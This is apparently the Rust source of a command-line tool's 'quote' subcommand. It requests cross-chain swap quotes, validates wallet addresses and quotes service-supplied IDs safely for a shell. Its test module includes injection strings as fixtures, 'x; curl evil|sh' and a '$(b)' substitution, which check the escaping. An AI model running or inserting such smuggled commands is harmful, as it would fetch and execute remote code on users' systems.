//! `hoptop quote`: asks for a route, and keeps the quote so that a transaction finds its estimate.
//!
//! What can only be refused is refused here, before a request is spent. It must never put what the service sent onto a
//! terminal as it came.

use std::{fmt, io, time::Duration};

use chrono::{DateTime, TimeDelta, Utc};
use clap::Args;
use color_eyre::eyre::Result;

use super::{
    context::Context,
    errand::{self, Ended, Errand},
    exit::Exit,
    json, log,
    quote_json::QuoteView,
};
use crate::{
    clock::Clock,
    config::Settings,
    domain::{
        chains,
        deadline::Deadline,
        observation::Failure,
        quote::{Amount, Quote, QuoteAnswer, QuoteRequest},
        span, text,
    },
    store::{Asked, QuoteWish, StoredQuote},
};

/// How long a quote is waited for: others' requests, a rest, a time-out.
const PATIENCE: Duration = Duration::from_secs(40);

/// For the help.
pub const EXAMPLES: &str = "\
Examples:
  hoptop quote --from-chain 42161 --from-token 0xaf88d065e77c8cC2239327C5EDb3A432268e5831 --from-amount 25000000 \\
      --to-chain 8453 --to-token 0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913 --from-address 0x1f0a...
                                                   25 of a token with 6 decimals

The same question within 30 seconds gets the same quote. It ends with 0 if there is a quote, 1 if the service refuses it,
2 if it can only be refused, 5 if the service refuses the integrator ID, 6 if no answer came.";

/// Ask for a route.
#[derive(Args, Clone, Debug)]
pub struct QuoteArgs {
    /// The source chain's ID, as the service uses it
    #[arg(long, value_name = "CHAIN")]
    from_chain: String,
    /// The source token's address
    #[arg(long, value_name = "ADDRESS")]
    from_token: String,
    /// How much, an integer in the token's smallest unit
    #[arg(long, value_name = "AMOUNT")]
    from_amount: String,
    /// The destination chain's ID
    #[arg(long, value_name = "CHAIN")]
    to_chain: String,
    /// The destination token's address
    #[arg(long, value_name = "ADDRESS")]
    to_token: String,
    /// The user's address on the source chain; a refund is paid to it
    #[arg(long, value_name = "ADDRESS")]
    from_address: String,
    /// The recipient's address on the destination chain [default: the same as --from-address]
    #[arg(long, value_name = "ADDRESS")]
    to_address: Option<String>,
    /// Ask for call data too (quoteOnly: false); the service limits that for each wallet
    #[arg(long)]
    with_transaction_data: bool,
    /// Take chain IDs that don't look like any
    #[arg(long)]
    any_chain: bool,
    /// Print it as JSON, with the service's answer as it came
    #[arg(long)]
    json: bool,
}

/// A way in which a quote can come to an end.
pub(super) enum Outcome {
    /// With an answer, now or a moment ago.
    Answered { quote: Box<StoredQuote>, kept: bool },
    /// The wallet has to wait.
    Held { until: DateTime<Utc>, message: String },
    /// Nothing came, for this reason; with the code that it ends with.
    InVain(String, Exit),
}

/// Asks for the route and prints what came.
pub fn quote(args: &QuoteArgs, settings: &Settings, cx: &mut Context) -> Result<Exit> {
    let request = match request(args) {
        Ok(request) => request,
        Err(wrong) => {
            wrong.into_iter().try_for_each(|wrong| writeln!(cx.err, "{wrong}"))?;
            return Ok(Exit::Usage);
        }
    };
    if let Some(warning) = odd_address(&request) {
        writeln!(cx.err, "warning: {warning}")?;
    }
    // Whatever could keep us from asking comes first: nobody is to ask on our behalf after we have failed.
    let polling = super::polling(settings)?;
    log::start(&settings.state_dir, Clock::system())?;
    let at = cx.now.wall;
    let until = at + TimeDelta::from_std(PATIENCE)?;
    let wish = QuoteWish { profile: cx.profile.clone(), request: request.clone(), at, until };
    let outcome = match cx.store.ask_quote(wish).wait()? {
        Asked::Kept(quote) => Outcome::Answered { quote, kept: true },
        Asked::WalletHeld { until, message } => Outcome::Held { until, message },
        Asked::Pending(id) => {
            let answered =
                move |reader: &crate::store::Reader| Ok(reader.quote(id)?.is_none_or(|quote| quote.answer.is_some()));
            let errand = Errand { settings, store: &cx.store, patience: PATIENCE };
            let ended = errand.run(polling, answered);
            cx.now = Clock::system().now();
            cx.store.withdraw_quote(id, until, cx.now.wall).wait()?;
            match ended? {
                Ended::Stopped(exit) => return Ok(exit),
                Ended::Obstructed(exit) => heard(id, exit, cx)?,
                Ended::Done | Ended::InVain => heard(id, Exit::Unreachable, cx)?,
            }
        }
    };
    if args.json {
        let view = QuoteView::new(&request, &outcome, cx.now.wall);
        writeln!(cx.out, "{}", json::ascii(&serde_json::to_string(&view)?))?;
    } else {
        print(&outcome, cx)?;
    }
    Ok(verdict(&outcome))
}

/// What came of the request by now; `exit` is the code if that is nothing.
fn heard(id: i64, exit: Exit, cx: &Context) -> Result<Outcome> {
    let reader = cx.store.reader()?;
    Ok(match reader.quote(id)? {
        Some(quote) if quote.answer.is_some() => Outcome::Answered { quote: Box::new(quote), kept: false },
        Some(quote) if quote.sent_at.is_some() => {
            Outcome::InVain("the request was sent and its answer was lost; ask again".into(), exit)
        }
        _ => Outcome::InVain(errand::why_in_vain(&reader, &cx.profile, cx.now.wall)?, exit),
    })
}

/// What is wrong with an option.
#[derive(Debug, PartialEq, Eq)]
struct Wrong {
    option: &'static str,
    reason: String,
}

impl fmt::Display for Wrong {
    fn fmt(&self, out: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(out, "{}: {}", self.option, self.reason)
    }
}

/// The request, or everything that is wrong with it.
fn request(args: &QuoteArgs) -> Result<QuoteRequest, Vec<Wrong>> {
    let mut wrong = Vec::new();
    let mut keep = |option, reason: String| wrong.push(Wrong { option, reason });
    let chain = |text: &str| chains::parse(text, args.any_chain).map_err(|error| error.to_string());
    let from_chain = chain(&args.from_chain).map_err(|reason| keep("--from-chain", reason)).ok();
    let to_chain = chain(&args.to_chain).map_err(|reason| keep("--to-chain", reason)).ok();
    let amount = Amount::parse(&args.from_amount).map_err(|error| keep("--from-amount", error.to_string())).ok();
    let to_address = args.to_address.as_ref().unwrap_or(&args.from_address);
    let mut address = |option, text: &str| address(text).map_err(|reason| keep(option, reason)).unwrap_or_default();
    let (from_token, to_token) = (address("--from-token", &args.from_token), address("--to-token", &args.to_token));
    let from_address = address("--from-address", &args.from_address);
    let to_address = address("--to-address", to_address);
    match (from_chain, to_chain, amount) {
        (Some(from_chain), Some(to_chain), Some(from_amount)) if wrong.is_empty() => Ok(QuoteRequest {
            from_address,
            from_chain,
            from_token,
            from_amount,
            to_chain,
            to_token,
            to_address,
            quote_only: !args.with_transaction_data,
        }),
        _ => Err(wrong),
    }
}

/// An address is opaque, but it has no blanks and isn't cut.
fn address(raw: &str) -> Result<String, String> {
    let clean = text::clean(raw);
    match clean.as_str() {
        "" => Err("it is empty; give the address".into()),
        _ if clean != raw.trim() || clean.contains(' ') => Err(format!("`{clean}` can't be an address; check it")),
        _ => Ok(clean),
    }
}

/// A word about an address that can't be one of its chain: a refund would go there.
fn odd_address(request: &QuoteRequest) -> Option<String> {
    let is_evm_chain = request.from_chain.as_str().bytes().all(|byte| byte.is_ascii_digit());
    let digits = request.from_address.strip_prefix("0x").unwrap_or_default();
    let is_evm = digits.len() == 40 && digits.bytes().all(|byte| byte.is_ascii_hexdigit());
    (is_evm_chain && !is_evm).then(|| {
        let (address, chain) = (&request.from_address, &request.from_chain);
        format!("`{address}` doesn't look like an address on chain {chain}; a refund would be paid to it")
    })
}

fn verdict(outcome: &Outcome) -> Exit {
    let answer = match outcome {
        Outcome::Answered { quote, .. } => quote.answer.as_ref(),
        Outcome::Held { .. } => return Exit::Error,
        Outcome::InVain(_, exit) => return *exit,
    };
    match answer {
        Some(QuoteAnswer::Route(_)) => Exit::Fine,
        Some(QuoteAnswer::Failed(Failure::Unauthorized(_))) => Exit::Unauthorized,
        Some(QuoteAnswer::Failed(Failure::Throttled { .. })) => Exit::Unreachable,
        Some(QuoteAnswer::Failed(failure)) if failure.is_outage() => Exit::Unreachable,
        _ => Exit::Error,
    }
}

fn print(outcome: &Outcome, cx: &mut Context) -> io::Result<()> {
    match outcome {
        Outcome::InVain(why, _) => writeln!(cx.err, "no quote: {why}"),
        Outcome::Held { until, message } => {
            let until = span::clock_time(*until, cx.now.wall, cx.zone);
            writeln!(cx.err, "no quote: {message}; this wallet has to wait until {until}, no request was spent")?;
            writeln!(cx.err, "without --with-transaction-data there is no such limit; other wallets are not held")
        }
        Outcome::Answered { quote, kept } => match &quote.answer {
            Some(QuoteAnswer::Route(route)) => print_route(quote, route, *kept, cx),
            Some(answer) => print_refusal(answer, cx),
            None => Ok(()),
        },
    }
}

fn print_route(quote: &StoredQuote, route: &Quote, kept: bool, cx: &mut Context) -> io::Result<()> {
    let request = &quote.request;
    writeln!(cx.out, "quoteId        {}", route.quote_id.as_deref().unwrap_or("(none came)"))?;
    let estimate = route.estimate.map(|estimate| format!("{} s ({})", estimate.as_secs_f64(), span::long(estimate)));
    writeln!(cx.out, "estimate       {}", estimate.as_deref().unwrap_or("(none came)"))?;
    let deadline = Deadline::new(Some(cx.now.wall), cx.now.wall, route.estimate);
    writeln!(cx.out, "support after  {} from sending on", deadline.basis())?;
    writeln!(cx.out, "refund to      {}, if it is an intents route that fails", request.from_address)?;
    let kind = if request.quote_only { "pricing only (quoteOnly)" } else { "with call data" };
    writeln!(cx.out, "kind           {kind}")?;
    if kept {
        let age = span::between(quote.answered_at.unwrap_or(quote.asked_at), cx.now.wall);
        writeln!(cx.out, "age            {}: the same was asked for then, so no request was spent", span::long(age))?;
    }
    route.warnings.iter().try_for_each(|warning| writeln!(cx.out, "warning        {warning}"))?;
    if let Some(id) = &route.quote_id {
        let (from, to) = (&request.from_chain, &request.to_chain);
        let id = shell_word(id);
        writeln!(cx.out, "\nonce it is sent:  hoptop add TX --from {from} --to {to} --quote-id={id}")?;
    }
    if !request.quote_only {
        writeln!(cx.out, "the call data is in the service's answer: ask with --json")?;
    }
    Ok(())
}

/// A word that a shell takes as it is, whatever the service has put into it.
fn shell_word(word: &str) -> String {
    let is_plain = word.chars().all(|letter| letter.is_ascii_alphanumeric() || matches!(letter, '.' | '_' | ':' | '-'));
    if is_plain { word.to_owned() } else { format!("'{}'", word.replace('\'', r"'\''")) }
}

fn print_refusal(answer: &QuoteAnswer, cx: &mut Context) -> io::Result<()> {
    let wait = match answer {
        QuoteAnswer::WalletLimited { retry_after, .. } => {
            format!("; this wallet has to wait {}", span::long(*retry_after))
        }
        _ => String::new(),
    };
    writeln!(cx.err, "no quote: {}{wait}", answer.refusal().unwrap_or_default())?;
    writeln!(cx.err, "  {}", answer.resolution().unwrap_or_default())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::{fixtures, ids::ChainId};

    #[test]
    fn a_quote_id_is_one_word_for_a_shell() {
        let table = [("5f2a-1:b", "5f2a-1:b"), ("x; curl evil|sh", "'x; curl evil|sh'"), ("a'$(b)", r"'a'\''$(b)'")];
        for (id, word) in table {
            assert_eq!(shell_word(id), word);
        }
    }

    #[test]
    fn an_address_that_is_none_of_its_chain_is_worth_a_word() {
        let wallet = "0xAbc0000000000000000000000000000000000abc";
        let table =
            [("1", wallet, false), ("1", "nonsense", true), ("1", "0xabc", true), ("osmosis-1", "osmo1", false)];
        for (chain, from_address, odd) in table {
            let from_chain = ChainId::new(chain);
            let request = QuoteRequest { from_chain, ..fixtures::quote_request(from_address) };
            assert_eq!(odd_address(&request).is_some(), odd, "{chain} {from_address}");
        }
    }

    #[test]
    fn an_address_is_opaque_but_whole() {
        assert_eq!(address(" 0xAb "), Ok("0xAb".into()));
        for wrong in ["", " ", "0x a", "0x\u{200b}a"] {
            assert!(address(wrong).is_err(), "{wrong:?}");
        }
    }
}
